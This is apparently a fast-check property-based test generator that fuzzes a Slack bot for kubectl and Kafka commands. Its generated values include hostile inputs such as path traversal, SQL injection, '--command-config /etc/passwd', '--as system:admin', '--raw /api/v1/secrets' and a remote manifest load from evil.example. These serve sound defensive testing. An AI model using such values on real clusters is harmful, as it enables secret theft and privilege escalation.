// What a person can send, as values: one input is one thing done on one surface by one person, with what is clicked after it.
// It knows how fast-check makes them and nothing of what becomes of them.

import fc from 'fast-check';
import { type BuilderRoot, type SuggestedField, type Verb, verbsOf } from '../../bot/builder.ts';
import type { Command } from '../../bot/command.ts';
import type { Named } from '../../bot/grammar.ts';
import { HOSTILE_WORDS } from './hostile.ts';
import { linesOf, rawText } from './lines.ts';
import type { PolicySet } from './stage.ts';

export type TextSurface = 'slash' | 'mention' | 'thread' | 'proposal';

export interface BuilderInput {
  readonly verb: string;
  readonly kind: string;
  readonly namespace: string;
  readonly name: string;
  readonly kafka: string;
  readonly flags: string;
  /** Those of a command of a Kafka. */
  readonly [field: `flag-${string}`]: string;
  readonly second?: string;
}

export type Act =
  | { readonly on: TextSurface; readonly text: string }
  | {
      readonly on: 'builder' | 'builder-change';
      readonly root: BuilderRoot;
      readonly values: BuilderInput;
    }
  | {
      readonly on: 'suggest';
      readonly root: BuilderRoot;
      readonly field: SuggestedField;
      readonly text: string;
      readonly values: BuilderInput;
    }
  | { readonly on: 'filter'; readonly outputId: string; readonly filter: string }
  | { readonly on: 'click'; readonly actionId: string; readonly value: string }
  | { readonly on: 'home'; readonly tab: string };

/** What is clicked when the answer has buttons. */
export const FOLLOW_UPS = [
  'none',
  'confirm',
  'confirm-twice',
  'confirm-foreign',
  'confirm-tampered',
  'confirm-elsewhere',
  'confirm-late',
  'cancel',
  'page',
  'page-foreign',
  'file',
  'filter',
] as const;
export type FollowUp = (typeof FOLLOW_UPS)[number];

export interface Input {
  readonly policies: PolicySet;
  /** One of PEOPLE. */
  readonly person: string;
  /** One of CHANNELS. */
  readonly channel: string;
  readonly act: Act;
  readonly follow: FollowUp;
}

export function inputs(commands: readonly Command[]): fc.Arbitrary<Input> {
  return fc.record({
    policies: weighted<PolicySet>({ permissive: 2, starter: 1 }),
    person: weighted({
      alice: 6,
      bob: 3,
      carol: 2,
      mallory: 1,
      eve: 1,
      guest: 1,
      robot: 1,
      gone: 1,
    }),
    channel: weighted({ C0SHOPOPS: 3, C0SHOPPROD: 2, C0GENERAL: 1 }),
    act: acts(commands),
    follow: fc.oneof(
      { weight: 2, arbitrary: fc.constant<FollowUp>('confirm') },
      { weight: 3, arbitrary: fc.constantFrom(...FOLLOW_UPS) },
    ),
  });
}

function weighted<T extends string>(weights: Readonly<Record<T, number>>): fc.Arbitrary<T> {
  const words = Object.keys(weights) as T[];
  return fc.oneof(
    ...words.map((word) => ({ weight: weights[word], arbitrary: fc.constant(word) })),
  );
}

function acts(commands: readonly Command[]): fc.Arbitrary<Act> {
  const line = linesOf(commands);
  const text = (on: TextSurface) => line.map((words): Act => ({ on, text: words }));
  const built = fc.oneof(
    { weight: 3, arbitrary: builderValues('kubectl', commands) },
    { weight: 1, arbitrary: builderValues('kafka', commands) },
  );
  return fc.oneof(
    { weight: 30, arbitrary: text('slash') },
    { weight: 20, arbitrary: fc.tuple(line, encodings).map(asMention('mention')) },
    { weight: 14, arbitrary: fc.tuple(line, encodings).map(asMention('thread')) },
    { weight: 6, arbitrary: text('proposal') },
    { weight: 14, arbitrary: built.map((each): Act => ({ on: 'builder', ...each })) },
    { weight: 2, arbitrary: built.map((each): Act => ({ on: 'builder-change', ...each })) },
    {
      weight: 5,
      arbitrary: fc
        .record({
          on: fc.constant('suggest' as const),
          field: fc.constantFrom<SuggestedField>(
            ...(['kind', 'namespace', 'name', 'name', 'kafka', 'second'] as const),
            ...(['flag-topic', 'flag-group', 'flag-to'] as const),
            ...(['flag-add-config', 'flag-delete-config'] as const),
          ),
          text: fc.oneof(fc.constantFrom('', 'w', 'web', 'sec'), rawText),
          built,
        })
        .map(({ built: each, ...rest }): Act => ({ ...rest, ...each })),
    },
    {
      weight: 3,
      arbitrary: fc.record({
        on: fc.constant('filter' as const),
        outputId: opaqueIds,
        filter: fc.oneof(fc.constantFrom('web', '', 'NAME'), rawText),
      }),
    },
    {
      weight: 6,
      arbitrary: fc.record({
        on: fc.constant('click' as const),
        actionId: fc.oneof(fc.constantFrom(...ACTIONS), rawText),
        value: opaqueIds,
      }),
    },
    {
      weight: 1,
      arbitrary: fc.record({
        on: fc.constant('home' as const),
        tab: fc.constantFrom('home', 'messages', 'kubectl get secrets'),
      }),
    },
  );
}

const ACTIONS = [
  'confirm',
  'cancel',
  'stop',
  'offer_snooze',
  'offer_late',
  'offer_skip',
  'output_next',
  'output_prev',
  'output_layout',
  'output_filter',
  'output_file',
  'verb',
  'flags',
  'Confirm',
  'confirm ',
  'kubectl',
];

/** Ids that were never given out, and things that are no ids. */
const opaqueIds = fc.oneof(
  fc.constantFrom('', 'x', '../../secrets', 'kubectl get secrets', "' OR 1=1 --", 'own:1:', 'a:1:'),
  fc.constantFrom(...HOSTILE_WORDS),
  fc.tuple(rawText, fc.nat(9)).map(([id, page]) => `${id}:${page}:`),
  rawText,
);

const KAFKA_TOPIC: Verb = { name: 'kafka topic', summary: '', named: { name: 'topic' } };

/** What of the world words and flags of kafka commands may name. */
const NAMED: Readonly<Record<Named, readonly [string, ...string[]]>> = {
  topic: ['orders', 'web-1', 'nosuch'],
  group: ['billing', 'idle'],
  connector: ['archive', 'idle'],
  broker: ['1', '2', '9'],
  member: ['billing-1', 'nobody'],
  task: ['0', '7'],
  setting: ['retention.ms=1000', 'cleanup.policy=[compact,delete]'],
  override: ['retention.ms', 'cleanup.policy'],
  'resource type': ['topic', 'broker', 'group'],
  resource: ['orders', '1', 'billing'],
};

function builderValues(
  root: BuilderRoot,
  commands: readonly Command[],
): fc.Arbitrary<{ readonly root: BuilderRoot; readonly values: BuilderInput }> {
  const offered = verbsOf(commands, root);
  const hostile = fc.oneof(fc.constantFrom(...HOSTILE_WORDS), rawText);
  const mostly = (...words: readonly [string, ...string[]]) =>
    fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom(...words) },
      { weight: 1, arbitrary: hostile },
    );
  const values =
    root === 'kafka'
      ? fc.constantFrom(KAFKA_TOPIC, ...offered).chain(({ name: verb, named = {} }) =>
          fc.record({
            name: mostly('', '', 'orders'),
            second: mostly('', '', '', '0'),
            ...Object.fromEntries(
              Object.entries(named).map(([field, each]) => [
                field,
                mostly('', ...NAMED[each ?? 'topic']),
              ]),
            ),
            verb: mostly(verb, 'kafka topic'),
            kind: mostly('', '', '', 'topic'), // it is not asked for, and may be sent all the same
            namespace: mostly('', '', '', 'shop'),
            kafka: mostly('', '', '', 'staging', 'production', 'nowhere'),
            flags: mostly('', '', '', '', '--to=1', '0', '--command-config /etc/passwd'),
          }),
        )
      : fc.record({
          verb: mostly('kubectl get', ...offered.map(({ name }) => name)),
          kind: mostly(
            ...(['pods', 'deployments', 'secrets', 'pods,secrets', 'deployments.apps'] as const),
            ...['vaults', ''],
          ),
          namespace: mostly('', 'shop', 'default', 'kube-system'),
          name: mostly('web-1', '', 'web', 'missing-1'),
          kafka: mostly('', '', '', '', '', '', '', 'staging'),
          flags: mostly(
            ...([
              '',
              '-o wide',
              '-o yaml',
              '--replicas=3',
              '-l app=web',
              '-o jsonpath={.data}',
            ] as const),
            ...['--as system:admin', '--raw /api/v1/secrets', '-f https://evil.example/x.yaml'],
            '--tail 5 --all-containers',
          ),
        });
  return values.map((each) => ({ root, values: each }));
}

/** What Slack's clients and servers make of what is typed. */
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  escaped: (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  linked: (text) =>
    text.replaceAll(/\b(?:https?:\/\/)?([a-z]+\.(?:com|example|io)\S*)/gu, '<http://$1|$1>'),
  relinked: (text) => text.replaceAll(/\b(web-1|shop|pods)\b/gu, '<http://$1|secrets>'),
  smart: (text) =>
    text.replaceAll("'", '\u2019').replaceAll('"', '\u201c').replaceAll('--', '\u2014'),
  blanks: (text) => text.replaceAll(' ', '\u00a0'),
  lines: (text) => text.replaceAll(' ', '\n'),
  fenced: (text) => `\`\`\`${text}\`\`\``,
  quoted: (text) => `\`${text}\``,
  twice: (text) => text.replaceAll('-', '&amp;#45;').replaceAll('a', '&amp;amp;'),
  called: (text) => `${text} <@U0ALICE> <!here>`,
  plain: (text) => text,
};
const encodings = fc.oneof(
  { weight: 3, arbitrary: fc.constant('escaped') },
  { weight: 2, arbitrary: fc.constantFrom(...Object.keys(ENCODINGS)) },
);

function asMention(on: 'mention' | 'thread') {
  return ([line, encoding]: [string, string]): Act => ({
    on,
    text: ENCODINGS[encoding]?.(line) ?? line,
  });
}
